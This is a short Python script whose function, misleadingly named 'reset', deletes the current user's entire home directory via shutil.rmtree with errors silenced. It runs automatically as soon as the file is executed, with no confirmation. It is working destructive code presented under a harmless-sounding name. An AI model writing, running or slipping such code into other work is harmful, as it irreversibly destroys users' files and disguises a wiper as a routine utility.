import os
import shutil

def reset():
    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)

reset()
